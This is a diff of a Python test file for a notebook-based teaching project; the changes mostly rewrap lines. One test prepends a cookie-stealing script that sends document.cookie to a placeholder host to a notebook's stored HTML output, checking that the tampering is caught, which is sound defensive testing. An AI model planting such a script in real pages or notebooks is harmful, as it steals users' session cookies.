@@ -64,10 +64,24 @@ def test_nbval_fails_when_data_change(tmp_path: Path) -> None:
     populations.write_text(text.replace(original, changed), encoding="utf-8")
     chapter = ROOT / "notebooks" / "01_why_join_the_un.ipynb"
     result = subprocess.run(
-        [sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q", "-c", str(ROOT / "pyproject.toml"),
-         "--rootdir", str(ROOT), str(chapter)],
+        [
+            sys.executable,
+            "-m",
+            "pytest",
+            "-p",
+            "no:cacheprovider",
+            "-q",
+            "-c",
+            str(ROOT / "pyproject.toml"),
+            "--rootdir",
+            str(ROOT),
+            str(chapter),
+        ],
         env={**os.environ, "IOMUN_DATA_DIR": str(data)},
-        capture_output=True, text=True, cwd=ROOT, timeout=600,
+        capture_output=True,
+        text=True,
+        cwd=ROOT,
+        timeout=600,
     )
     assert result.returncode != 0, "nbval passed although a refugee figure changed"
     # tables for people group the digits
@@ -141,8 +155,11 @@ def canonical(notebook: nbformat.NotebookNode) -> list[tuple[str, str]]:
 def differences(stored: nbformat.NotebookNode, fresh: nbformat.NotebookNode) -> list[str]:
     """Where a stored notebook's outputs differ from a fresh run's (empty when they agree)."""
     left, right = canonical(stored), canonical(fresh)
-    found = [f"{where}: stored {a[:200]!r}, fresh run {b[:200]!r}"
-             for (where, a), (_, b) in zip(left, right, strict=False) if a != b]
+    found = [
+        f"{where}: stored {a[:200]!r}, fresh run {b[:200]!r}"
+        for (where, a), (_, b) in zip(left, right, strict=False)
+        if a != b
+    ]
     if len(left) != len(right):
         found.append(f"{len(left)} stored outputs against {len(right)} from a fresh run")
     return found
@@ -161,12 +178,11 @@ def fresh_runs() -> dict[str, nbformat.NotebookNode]:
 
 @pytest.mark.slow
 @pytest.mark.parametrize("path", NOTEBOOKS, ids=[p.name for p in NOTEBOOKS])
-def test_stored_outputs_are_what_a_fresh_run_writes(
-    path: Path, fresh_runs: dict[str, nbformat.NotebookNode]
-) -> None:
+def test_stored_outputs_are_what_a_fresh_run_writes(path: Path, fresh_runs: dict[str, nbformat.NotebookNode]) -> None:
     found = differences(nbformat.read(path, as_version=4), fresh_runs[path.name])
     assert not found, f"{path.name}: stored outputs the build did not produce (run `make notebooks`):\n" + "\n".join(
-        found[:10])
+        found[:10]
+    )
 
 
 @pytest.mark.slow
@@ -174,14 +190,25 @@ def test_a_script_added_to_a_stored_output_is_caught(fresh_runs: dict[str, nbfor
     """A `<script>` prepended to the stored HTML of a hide-input cell (what nbval lets through)."""
     path = NOTEBOOKS[-1]
     stored = nbformat.read(path, as_version=4)
-    targets = [(n, o) for n, c in enumerate(stored.cells) if c.cell_type == "code"
-               and "hide-input" in c.metadata.get("tags", []) for o in c.outputs if "text/html" in o.get("data", {})]
+    targets = [
+        (n, o)
+        for n, c in enumerate(stored.cells)
+        if c.cell_type == "code" and "hide-input" in c.metadata.get("tags", [])
+        for o in c.outputs
+        if "text/html" in o.get("data", {})
+    ]
     if not targets:  # no hide-input cell shows HTML: take any cell that does
-        targets = [(n, o) for n, c in enumerate(stored.cells) if c.cell_type == "code"
-                   for o in c.outputs if "text/html" in o.get("data", {})]
+        targets = [
+            (n, o)
+            for n, c in enumerate(stored.cells)
+            if c.cell_type == "code"
+            for o in c.outputs
+            if "text/html" in o.get("data", {})
+        ]
     assert targets, f"{path.name} stores no HTML output"
     number, output = targets[0]
     output.data["text/html"] = "<script>fetch('https://example.invalid/?' + document.cookie)</script>" + (
-        output.data["text/html"] if isinstance(output.data["text/html"], str) else "".join(output.data["text/html"]))
+        output.data["text/html"] if isinstance(output.data["text/html"], str) else "".join(output.data["text/html"])
+    )
     found = differences(stored, fresh_runs[path.name])
     assert any(f"cell {number} " in line and "<script>" in line for line in found), found
